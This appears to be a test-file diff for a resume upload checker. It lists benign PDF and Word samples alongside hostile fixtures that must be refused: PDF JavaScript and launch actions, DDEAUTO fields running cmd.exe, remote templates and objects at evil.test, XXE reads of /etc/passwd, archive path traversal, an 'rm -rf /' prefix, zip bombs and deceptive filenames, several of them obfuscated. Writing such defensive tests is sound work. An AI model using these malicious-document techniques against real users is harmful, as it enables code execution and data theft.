@@ -1,0 +1,618 @@
+import { expect, test } from 'vitest'
+import { resumeFileSchema } from '#contract/hiring/resumes.schema.ts'
+import {
+  type ResumeRefusal,
+  type ResumeType,
+  resumeBytes,
+  resumeMessages,
+  resumeRefusals,
+  resumeTypes,
+} from '#contract/hiring/resumes.ts'
+import { refusalOf } from './resume-check.ts'
+import { macroTypes, makeDocx, makePdf, makeZip, packedObjects, sheetTypes } from './test-resumes.ts'
+
+const relation = (type: string, target: string, mode = 'External') => ({
+  name: 'word/_rels/document.xml.rels',
+  content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+})
+const zeros = Buffer.alloc(8 * 1024 * 1024)
+const text = (words: string) => Buffer.from(words)
+const field = (...instructions: string[]) => `<w:p>${instructions.map((text) => `<w:r>${text}</w:r>`).join('')}</w:p>`
+const instruction = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`
+
+test.each<[what: string, type: ResumeType, bytes: Buffer]>([
+  ['a PDF', 'pdf', makePdf()],
+  ['a PDF 2.0', 'pdf', makePdf({ header: '%PDF-2.0' })],
+  ['a PDF that opens at its first page', 'pdf', makePdf({ trailer: '/OpenAction [3 0 R /Fit]' })],
+  ['a PDF with links', 'pdf', makePdf({ objects: ['5 0 obj << /S /URI /URI (https://me.test) >> endobj'] })],
+  [
+    'a PDF by somebody who knows JavaScript',
+    'pdf',
+    makePdf({ objects: ['6 0 obj << /Keywords (HTML/JavaScript, /Launch) >> endobj'] }),
+  ],
+  ['a PDF with packed objects', 'pdf', makePdf({ objects: [packedObjects('8 0 << /Type /Font >>')] })],
+  ['a PDF with zeros behind its end', 'pdf', makePdf({ end: '%%EOF\r\n\0\0' })],
+  ['a Word document', 'docx', makeDocx()],
+  ['a Word document with links', 'docx', makeDocx({ more: [relation('hyperlink', 'https://me.test')] })],
+  [
+    'a Word document with a picture',
+    'docx',
+    makeDocx({ more: [{ name: 'word/media/image1.png', content: text('\x89PNG'), method: 0 }] }),
+  ],
+  [
+    'a Word document with fields',
+    'docx',
+    makeDocx({
+      body: field(
+        '<w:fldChar w:fldCharType="begin"/>',
+        instruction(' HYPER'),
+        instruction('LINK "https://hi'),
+        instruction('dden.test/dde" '),
+        '<w:fldChar w:fldCharType="separate"/>',
+        '<w:t>2 &lt; 3 &amp; 4 > 1</w:t>',
+        '<w:fldChar w:fldCharType="end"/>',
+      ),
+    }),
+  ],
+  [
+    'a PDF with a picture that unpacks to hundreds of megabytes',
+    'pdf',
+    makePdf({
+      objects: Array.from({ length: 8 }, () =>
+        packedObjects(zeros.toString('latin1'), { type: '/Subtype /Image', entries: '' }),
+      ),
+    }),
+  ],
+  [
+    'a PDF of a printer that numbers the streams of its colors',
+    'pdf',
+    makePdf({ objects: ['4 0 obj << /N 3 /Length 1 >>\rstream\r\nx\nendstream endobj'] }),
+  ],
+  [
+    'a Word document that speaks of DDE and macros',
+    'docx',
+    makeDocx({ body: '<w:t>DDE "x", vbaProject, INCLUDETEXT</w:t>' }),
+  ],
+])('%s may be kept', (_, type, bytes) => {
+  expect(refusalOf(bytes, type)).toBeUndefined()
+})
+
+const action = (type: string) => `5 0 obj << /Type /Action ${type} >> endobj`
+const script = '8 0 << /S /JavaScript /JS (1) >>'
+const hostile: [what: string, type: ResumeType, bytes: Buffer, refusal: ResumeRefusal][] = [
+  ['a program', 'pdf', text('MZ\x90\0This program cannot be run'), 'notPdf'],
+  ['a web page', 'pdf', text('<html><script>alert(1)</script></html>'), 'notPdf'],
+  ['a drawing with a script', 'pdf', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'notPdf'],
+  ['a picture', 'pdf', Buffer.from('ffd8ffe000104a464946', 'hex'), 'notPdf'],
+  ['PostScript', 'pdf', text('%!PS-Adobe-3.0\n%%EOF'), 'notPdf'],
+  ['a PDF behind other bytes', 'pdf', Buffer.concat([text('GIF89a'), makePdf()]), 'notPdf'],
+  ['a PDF behind a shell script', 'pdf', Buffer.concat([text('#!/bin/sh\nrm -rf /\n'), makePdf()]), 'notPdf'],
+  ['a Word document called PDF', 'pdf', makeDocx(), 'notPdf'],
+  ['a PDF cut off', 'pdf', makePdf().subarray(0, 200), 'pdfCut'],
+  ['a PDF with a program behind it', 'pdf', makePdf({ end: '%%EOF\nMZ\x90' }), 'pdfCut'],
+  [
+    'a PDF with an archive behind it',
+    'pdf',
+    Buffer.concat([makePdf(), makeZip([{ name: 'a', content: 'b' }])]),
+    'pdfCut',
+  ],
+  [
+    'a PDF that is an archive as well',
+    'pdf',
+    makePdf({ objects: [withComment(makeZip([{ name: 'a.exe', content: 'MZ' }]), 300)] }),
+    'twoFormats',
+  ],
+  [
+    'a PDF that is a web page as well',
+    'pdf',
+    makePdf({ header: '%PDF-1.7\n%<script>alert(1)</script>' }),
+    'twoFormats',
+  ],
+  ['a PDF with a password', 'pdf', makePdf({ trailer: '/Encrypt 9 0 R' }), 'pdfPassword'],
+  ['a PDF with a password in place', 'pdf', makePdf({ trailer: '/Encrypt<< /Filter /Standard >>' }), 'pdfPassword'],
+  ['a PDF with a script', 'pdf', makePdf({ objects: [action('/S /JavaScript /JS (app.alert(1))')] }), 'pdfActive'],
+  [
+    'a PDF with a script, written in numbers',
+    'pdf',
+    makePdf({ objects: [action('/S /J#61v#61Script /JS (1)')] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a script behind a comment',
+    'pdf',
+    makePdf({ objects: [action('/S%x\n/JavaScript /JS (1)')] }),
+    'pdfActive',
+  ],
+  ['a PDF with a script behind a zero', 'pdf', makePdf({ objects: [action('/S\0/JavaScript /JS (1)')] }), 'pdfActive'],
+  [
+    'a PDF with its script elsewhere',
+    'pdf',
+    makePdf({ objects: [action('/S 7 0 R'), '7 0 obj /JavaScript endobj'] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with named scripts',
+    'pdf',
+    makePdf({ objects: ['6 0 obj << /Names << /JavaScript 7 0 R >> >> endobj'] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script',
+    'pdf',
+    makePdf({ objects: [packedObjects('8 0 << /S /JavaScript /JS (1) >>')] }),
+    'pdfActive',
+  ],
+  ['a PDF that starts a program', 'pdf', makePdf({ objects: [action('/S /Launch /F (cmd.exe)')] }), 'pdfActive'],
+  [
+    'a PDF that sends a form',
+    'pdf',
+    makePdf({ objects: [action('/S /SubmitForm /F (https://evil.test)')] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF that fetches another',
+    'pdf',
+    makePdf({ objects: [action('/S /GoToR /F (\\\\\\\\evil.test\\\\x)')] }),
+    'pdfActive',
+  ],
+  ['a PDF with a film', 'pdf', makePdf({ objects: ['6 0 obj << /Subtype /RichMedia >> endobj'] }), 'pdfActive'],
+  [
+    'a PDF with an XFA form',
+    'pdf',
+    makePdf({ objects: ['6 0 obj << /AcroForm << /XFA [ (x) 7 0 R ] >> >> endobj'] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with files inside',
+    'pdf',
+    makePdf({ objects: ['6 0 obj << /Names << /EmbeddedFiles 7 0 R >> >> endobj'] }),
+    'pdfAttachments',
+  ],
+  [
+    'a PDF with a file as a note',
+    'pdf',
+    makePdf({ objects: ['6 0 obj << /Subtype /FileAttachment >> endobj'] }),
+    'pdfAttachments',
+  ],
+  [
+    'a PDF with packed files',
+    'pdf',
+    makePdf({ objects: [packedObjects('8 0 << /Type /EmbeddedFile >>')] }),
+    'pdfAttachments',
+  ],
+  [
+    'a PDF packed twice',
+    'pdf',
+    makePdf({ objects: [packedObjects('8 0 << >>', { dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]' })] }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF with a predictor',
+    'pdf',
+    makePdf({
+      objects: [packedObjects('8 0 << >>', { dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' })],
+    }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF with damaged objects',
+    'pdf',
+    makePdf({ objects: [packedObjects('8 0 << >>', { pack: (bytes) => bytes as never })] }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF that unpacks to hundreds of megabytes',
+    'pdf',
+    makePdf({ objects: Array.from({ length: 8 }, () => packedObjects(zeros.toString('latin1'))) }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF with a packed script behind a comment that speaks of streams',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { dictionary: '% stream\n/Filter /FlateDecode' })] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script far behind its dictionary',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { dictionary: `/Filter /FlateDecode /Note (${'x'.repeat(5_000)})` })] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script that is not called so',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { type: '' })] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script behind a dictionary with brackets in a text',
+    'pdf',
+    makePdf({
+      objects: [
+        packedObjects(script, { dictionary: '/A (>> \\) stream ( )) /B << /C <3e3e> >> /Filter [/Fl#61teDecode]' }),
+      ],
+    }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script in a short form',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { dictionary: '/F /Fl' })] }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF with a packed name of an action',
+    'pdf',
+    makePdf({ objects: [packedObjects('8 0 9 20 << /S 9 0 R /JS (1) >> /JavaScript')] }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF with a script behind a percent sign in a text',
+    'pdf',
+    makePdf({ objects: [action('/Note (100%) /S /JavaScript /JS (1)')] }),
+    'pdfActive',
+  ],
+
+  ['an older Word file', 'docx', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'oldWord'],
+  ['a PDF called Word', 'docx', makePdf(), 'notDocx'],
+  ['a program called Word', 'docx', text('MZ\x90\0'), 'notDocx'],
+  ['nearly nothing', 'docx', text('PK'), 'notDocx'],
+  ['an archive', 'docx', makeZip([{ name: 'holiday.jpg', content: 'x' }]), 'notDocx'],
+  ['a Java program', 'docx', makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]), 'notDocx'],
+  ['a spreadsheet', 'docx', makeDocx({ types: sheetTypes }), 'notDocx'],
+  ['a Word document cut off', 'docx', makeDocx().subarray(0, 120), 'docxDamaged'],
+  ['a Word document with something behind it', 'docx', makeDocx({ after: text('MZ and more') }), 'docxDamaged'],
+  [
+    'a Word document with something hidden inside',
+    'docx',
+    makeDocx({ between: Buffer.alloc(4096, 'MZ') }),
+    'docxUnusual',
+  ],
+  [
+    'a Word document that is a PDF as well',
+    'docx',
+    makeZip([{ name: 'a', content: makePdf(), method: 0 }]),
+    'twoFormats',
+  ],
+  [
+    'a Word document with a password',
+    'docx',
+    makeDocx({ more: [{ name: 'word/a.xml', content: 'x', flags: 1 }] }),
+    'docxPassword',
+  ],
+  ['a Word document with macros', 'docx', makeDocx({ types: macroTypes }), 'docxMacros'],
+  [
+    'a Word document with a macro project',
+    'docx',
+    makeDocx({ more: [{ name: 'word/vbaProject.bin', content: 'x' }] }),
+    'docxMacros',
+  ],
+  [
+    'a Word document with controls',
+    'docx',
+    makeDocx({ more: [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }] }),
+    'docxMacros',
+  ],
+  [
+    'a Word document with a file inside',
+    'docx',
+    makeDocx({ more: [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }] }),
+    'docxEmbedded',
+  ],
+  [
+    'a Word document with a program as a picture',
+    'docx',
+    makeDocx({ more: [{ name: 'word/media/image1.png', content: 'MZ\x90' }] }),
+    'docxEmbedded',
+  ],
+  [
+    'a Word document with an archive as a picture',
+    'docx',
+    makeDocx({ more: [{ name: 'word/media/image1.png', content: makeDocx() }] }),
+    'docxEmbedded',
+  ],
+  [
+    'a template from elsewhere',
+    'docx',
+    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm')] }),
+    'docxOutside',
+  ],
+  [
+    'a picture from elsewhere',
+    'docx',
+    makeDocx({ more: [relation('image', 'https://evil.test/pixel.png')] }),
+    'docxOutside',
+  ],
+  [
+    'an object from elsewhere',
+    'docx',
+    makeDocx({ more: [relation('oleObject', 'mhtml:https://evil.test!x')] }),
+    'docxOutside',
+  ],
+  [
+    'a picture from elsewhere, in UTF-16',
+    'docx',
+    makeDocx({
+      more: [
+        { ...relation('image', ''), content: Buffer.from(relation('image', 'https://evil.test').content, 'utf16le') },
+      ],
+    }),
+    'docxOutside',
+  ],
+  [
+    'a field that starts a program',
+    'docx',
+    makeDocx({ body: '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>' }),
+    'docxOutside',
+  ],
+  [
+    'a field that fetches a file',
+    'docx',
+    makeDocx({ body: '<w:fldSimple w:instr=" INCLUDETEXT \\\\evil.test\\x"/>' }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere, written in numbers',
+    'docx',
+    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm', '&#69;xtern&#x61;l')] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere behind a bracket in a value',
+    'docx',
+    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/?>')] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere that says it is a part',
+    'docx',
+    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm', 'Internal')] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere in a part of another name',
+    'docx',
+    makeDocx({ more: [{ ...relation('attachedTemplate', 'https://evil.test/t.dotm'), name: 'word/_rels/a.png' }] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere, in big-endian UTF-16',
+    'docx',
+    makeDocx({
+      more: [
+        {
+          ...relation('attachedTemplate', ''),
+          content: Buffer.from(
+            `\ufeff${relation('attachedTemplate', 'https://evil.test').content}`,
+            'utf16le',
+          ).swap16(),
+        },
+      ],
+    }),
+    'docxOutside',
+  ],
+  [
+    'an object by its relation',
+    'docx',
+    makeDocx({
+      more: [relation('oleObject', 'media/a.bin', 'Internal'), { name: 'word/media/a.bin', content: 'x', method: 0 }],
+    }),
+    'docxEmbedded',
+  ],
+  [
+    'a field that starts a program, in two pieces',
+    'docx',
+    makeDocx({ body: field(instruction(' DD'), instruction('EAUTO c:\\\\cmd.exe "/k calc"')) }),
+    'docxOutside',
+  ],
+  [
+    'a field that starts a program, in pieces over two paragraphs',
+    'docx',
+    makeDocx({
+      body: field(instruction('D')) + field('<w:fldChar w:fldCharType="x"/>', instruction('<![CDATA[DE]]>&#32;x')),
+    }),
+    'docxOutside',
+  ],
+  [
+    'a field that starts a program, written in numbers',
+    'docx',
+    makeDocx({ body: '<w:fldSimple w:instr="&#68;DEAUTO c:\\\\cmd.exe"/>' }),
+    'docxOutside',
+  ],
+  [
+    'a field that starts a program, by another prefix',
+    'docx',
+    makeDocx({ body: '<x:instrText xmlns:x="w">DDEAUTO c:\\\\cmd.exe</x:instrText>' }),
+    'docxOutside',
+  ],
+  [
+    'a field whose name another field makes',
+    'docx',
+    makeDocx({
+      body: field(
+        '<w:fldChar w:fldCharType="begin"/>',
+        '<w:fldChar w:fldCharType="begin"/>',
+        instruction('QUOTE 68 68 69'),
+        '<w:fldChar w:fldCharType="end"/>',
+        instruction(' c:\\\\cmd.exe'),
+        '<w:fldChar w:fldCharType="end"/>',
+      ),
+    }),
+    'docxOutside',
+  ],
+  [
+    'a link to a file that is shown',
+    'docx',
+    makeDocx({
+      body: field('<w:fldChar w:fldCharType="begin"/>', instruction(' LINK Excel.Sheet "\\\\evil.test\\x"')),
+    }),
+    'docxOutside',
+  ],
+  [
+    'macros, written in numbers',
+    'docx',
+    makeDocx({
+      types: macroTypes
+        .replace('</Types>', `<Override ContentType="${resumeTypes.docx}.main+xml"/></Types>`)
+        .replace('macroE', 'macro&#69;'),
+    }),
+    'docxMacros',
+  ],
+  [
+    'a part in a rare encoding',
+    'docx',
+    makeDocx({ more: [{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }] }),
+    'docxUnusual',
+  ],
+  ['a part that does not end', 'docx', makeDocx({ more: [{ name: 'word/a.xml', content: '<x a="' }] }), 'docxUnusual'],
+  [
+    'a bomb',
+    'docx',
+    makeDocx({ more: Array.from({ length: 8 }, (_, at) => ({ name: `word/media/${at}.bmp`, content: zeros })) }),
+    'docxHuge',
+  ],
+  [
+    'a bomb that lies about its size',
+    'docx',
+    makeDocx({ more: [{ name: 'word/media/1.bmp', content: zeros, size: 100 }] }),
+    'docxUnusual',
+  ],
+  [
+    'too many parts',
+    'docx',
+    makeDocx({ more: Array.from({ length: 2_100 }, (_, at) => ({ name: `word/${at}.xml`, content: '' })) }),
+    'docxHuge',
+  ],
+  [
+    'a path out of the archive',
+    'docx',
+    makeDocx({ more: [{ name: '../../etc/cron.d/x', content: 'x' }] }),
+    'docxUnusual',
+  ],
+  ['a path from the root', 'docx', makeDocx({ more: [{ name: '/etc/passwd', content: 'x' }] }), 'docxUnusual'],
+  ['a path of Windows', 'docx', makeDocx({ more: [{ name: 'C:\\Windows\\x.dll', content: 'x' }] }), 'docxUnusual'],
+  [
+    'two parts of one name',
+    'docx',
+    makeDocx({ more: [{ name: 'word/document.xml', content: '<x/>' }] }),
+    'docxUnusual',
+  ],
+  [
+    'a part with two names',
+    'docx',
+    makeDocx({ more: [{ name: 'word/a.xml', localName: 'word/vbaProject.bin', content: '<x/>' }] }),
+    'docxUnusual',
+  ],
+  [
+    'a rare way of packing',
+    'docx',
+    makeDocx({ more: [{ name: 'word/a.xml', content: 'x', method: 14 }] }),
+    'docxUnusual',
+  ],
+  [
+    'entities',
+    'docx',
+    makeDocx({
+      more: [{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }],
+    }),
+    'docxUnusual',
+  ],
+]
+
+/** So long a comment that the archive seems to reach to the end of the file it stands in. */
+function withComment(zip: Buffer, length: number): Buffer {
+  zip.writeUInt16LE(length, zip.length - 2)
+  return Buffer.concat([zip, Buffer.alloc(length, ' ')])
+}
+
+test.each(hostile)('%s (%s) is refused', (_, type, bytes, refusal) => {
+  expect(refusalOf(bytes, type)).toBe(refusal)
+})
+
+test('there are more than forty of them, and each has a sentence that says what to do', () => {
+  expect(hostile.length).toBeGreaterThanOrEqual(40)
+  const tooMuch = ['pdfTooMuch', 'docxTooMuch']
+  expect(new Set([...hostile.map(([, , , refusal]) => refusal), ...tooMuch])).toEqual(
+    new Set(Object.keys(resumeRefusals)),
+  )
+  for (const sentence of Object.values(resumeRefusals)) expect(sentence).toMatch(/ Please .+\.$/)
+})
+
+test.each([
+  ['cv.pdf', undefined],
+  ['Ana María, résumé (2026).PDF', undefined],
+  ['履歴書.docx', undefined],
+  ['cv.doc', resumeMessages.type],
+  ['cv.docm', resumeMessages.type],
+  ['cv.pdf.exe', resumeMessages.type],
+  ['cv', resumeMessages.type],
+  ['cv.constructor', resumeMessages.type],
+  ['cv.__proto__', resumeMessages.type],
+  ['cv.toString', resumeMessages.type],
+  ['', resumeMessages.type],
+  ['../../etc/cv.pdf', resumeMessages.name],
+  ['C:\\cv.pdf', resumeMessages.name],
+  ['a/b.pdf', resumeMessages.name],
+  ['.cv.pdf', resumeMessages.name],
+  ['cv\u202efdp.exe.pdf', resumeMessages.name],
+  ['cv.exe.pdf', resumeMessages.name],
+  ['cv\u200b.pdf', resumeMessages.name],
+  ['"><script>.pdf', resumeMessages.name],
+])('a file called %j', (name, message) => {
+  const { error } = resumeFileSchema.safeParse({ name, size: 1 })
+  expect(error?.issues[0]?.message).toBe(message)
+})
+
+test('a file has something in it, and at most five megabytes', () => {
+  const messageFor = (size: number) => resumeFileSchema.safeParse({ name: 'cv.pdf', size }).error?.issues[0]?.message
+  expect(messageFor(0)).toBe(resumeMessages.empty)
+  expect(messageFor(resumeBytes)).toBeUndefined()
+  expect(messageFor(resumeBytes + 1)).toBe(resumeMessages.tooLarge)
+})
+
+const filled = (bytes: number, unit: string) => unit.repeat(Math.floor(bytes / unit.length))
+const inPdf = (unit: string) => (bytes: number) => makePdf({ objects: [filled(bytes - 1_000, unit)] })
+const inWord = (unit: string) => (bytes: number) =>
+  makeDocx({ more: [{ name: 'word/a.xml', content: filled(bytes, unit) }] })
+const kilobyte = 1024
+
+/** Twice the size takes twice the time, also for what is made to take longer. */
+test.each<[what: string, type: ResumeType, make: (bytes: number) => Buffer, largest: number]>([
+  ['`/S%`', 'pdf', inPdf('/S%'), resumeBytes],
+  ['`/S%` and lines', 'pdf', inPdf('/S%/S%\n%\n%\n'), resumeBytes],
+  ['`/ObjStm`', 'pdf', inPdf('/ObjStm '), resumeBytes],
+  ['`/Encrypt 1 0`', 'pdf', inPdf('/Encrypt 1 0 '), resumeBytes],
+  ['texts that do not end', 'pdf', inPdf('/S ( '), resumeBytes],
+  ['dictionaries that do not end', 'pdf', inPdf('1 0 obj<<('), resumeBytes],
+  ['objects that are comments', 'pdf', inPdf('obj%'), resumeBytes],
+  ['dictionaries', 'pdf', inPdf('1 0 obj<</N 1>>stream\n'), resumeBytes],
+  ['packed `/S%`', 'pdf', (bytes) => makePdf({ objects: [packedObjects(filled(bytes, '/S%'))] }), 8 * resumeBytes],
+  ['`<`', 'docx', inWord('<'), 8 * resumeBytes],
+  ['`<a `', 'docx', inWord('<a '), 8 * resumeBytes],
+  ['`<w:instrText`', 'docx', inWord('<w:instrText '), 8 * resumeBytes],
+  ['elements', 'docx', inWord('<a b="c"/>'), 2 * resumeBytes],
+  ['blank fields', 'docx', inWord('<w:instrText> </w:instrText>'), 2 * resumeBytes],
+  ['fields', 'docx', inWord('<w:instrText>D</w:instrText>'), 2 * resumeBytes],
+  ['numbers', 'docx', inWord('<a instr="&#68;"/>'), 2 * resumeBytes],
+])('%s in any number take their size (%s)', (_, type, make, largest) => {
+  const spend = (bytes: number) => {
+    const file = make(bytes)
+    const started = process.threadCpuUsage()
+    refusalOf(file, type)
+    return process.threadCpuUsage(started).user / 1_000
+  }
+  for (let bytes = 40 * kilobyte; bytes < largest / 2; bytes *= 2) expect(spend(bytes), `${bytes}`).toBeLessThan(2_000)
+  const half = spend(largest / 2)
+  expect(spend(largest)).toBeLessThan(3 * half + 300)
+})
+
+test('five megabytes are looked through in less than half a second', () => {
+  const page = Buffer.concat([
+    text('7 0 obj << /Length 1 >> stream\n'),
+    Buffer.alloc(resumeBytes - 600, '/S ( '),
+    text('\nendstream endobj'),
+  ])
+  const started = process.threadCpuUsage()
+  expect(refusalOf(makePdf({ objects: [page] }), 'pdf')).toBeUndefined()
+  expect(process.threadCpuUsage(started).user).toBeLessThan(500_000)
+})
